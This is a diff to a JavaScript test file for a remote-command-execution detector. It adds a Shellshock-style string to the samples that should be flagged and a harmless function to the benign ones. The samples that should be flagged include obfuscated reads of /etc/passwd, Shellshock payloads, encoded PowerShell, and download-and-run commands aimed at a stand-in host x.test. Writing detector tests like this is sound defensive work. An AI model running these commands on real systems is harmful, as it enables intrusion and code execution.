@@ -17,6 +17,7 @@ testDetector('rce', detectCommand, {
     '/b?n/ca? /etc/host?',
     '/etc/pa[s]swd',
     '() { :; }; /bin/true',
+    ' "() { ignored; }; /usr/bin/id"',
     'powershell -enc SQBFAFgA',
     'iex (New-Object Net.WebClient).DownloadString("http://x.test")',
     'wget http://x.test/a -O /tmp/a',
@@ -33,6 +34,7 @@ testDetector('rce', detectCommand, {
     'Q&A session | room 4',
     'time flies',
     'read more',
+    'function add(a){ return a + 1 }',
   ],
 });
 
